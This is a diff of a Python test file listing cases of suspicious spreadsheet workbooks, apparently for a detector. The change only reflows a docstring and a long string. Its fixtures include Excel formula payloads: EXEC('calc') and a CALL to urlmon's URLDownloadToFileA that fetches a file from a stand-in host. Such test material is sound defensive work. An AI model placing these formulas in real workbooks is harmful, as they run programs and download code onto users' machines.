@@ -1,4 +1,5 @@
-"""A workbook that was rearranged, relabelled, relocked, hidden in part, taken from somebody else, or that reaches outside."""
+"""A workbook that was rearranged, relabelled, relocked, hidden in part or taken from somebody,
+or that reaches outside."""
 
 from __future__ import annotations
 
@@ -226,7 +227,8 @@ CASES = {
             "another workbook by its path": "'C:\\a\\[b.xlsx]c'!$A$1",
             "RTD": "RTD(&quot;a&quot;,&quot;&quot;,&quot;b&quot;)",
             "EXEC": "EXEC(&quot;calc&quot;)",
-            "CALL": "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;,0,&quot;http://a.example&quot;,&quot;a&quot;,0,0)",
+            "CALL": "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;,0,&quot;"
+            "http://a.example&quot;,&quot;a&quot;,0,0)",
         }.items()
     },
     "a formula of WEBSERVICE in a condition": notes(
